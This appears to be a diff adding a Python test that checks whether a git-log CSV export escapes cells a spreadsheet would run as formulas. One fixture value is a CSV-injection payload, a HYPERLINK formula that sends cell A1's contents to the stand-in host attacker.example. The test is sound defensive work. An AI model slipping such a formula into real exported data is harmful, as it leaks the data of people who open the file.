@@ -180,3 +180,38 @@ def test_bad_input_is_one_line_with_exit_code(history: tuple[Path, dict[str, str
     )
     code, _, err = run_cli(["log", "--ref", "nope"], root)
     assert code == 1 and err.startswith("error: unknown revision 'nope'")
+
+
+def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas() -> None:
+    from flagstone.gitops import LogEntry, render_log_csv
+
+    entry = LogEntry(
+        commit="a" * 40,
+        date="2026-11-02T10:00:00+00:00",
+        timestamp=0,
+        author_name='=HYPERLINK("http://attacker.example/?"&A1,"x")',
+        author_email="+1@example.com",
+        pull_request=7,
+        subject="flag",
+        key="checkout",
+        environment="production",
+        kind="description-changed",
+        summary="@SUM(1+1)",
+        lineage="checkout",
+    )
+    second = LogEntry(
+        **{
+            **{f: getattr(entry, f) for f in entry.__slots__},
+            "author_name": "-2+3",
+            "author_email": "\tx@example.com",
+            "summary": "plain, with a comma",
+        }
+    )
+    rows = list(csv.DictReader(io.StringIO(render_log_csv([entry, second]), newline="")))
+    assert rows[0]["author_name"] == "'" + entry.author_name
+    assert rows[0]["author_email"] == "'+1@example.com"
+    assert rows[0]["summary"] == "'@SUM(1+1)"
+    assert rows[0]["pull_request"] == "7" and rows[0]["flag"] == "checkout"
+    assert rows[1]["author_name"] == "'-2+3"
+    assert rows[1]["author_email"] == "'\tx@example.com"
+    assert rows[1]["summary"] == "plain, with a comma"
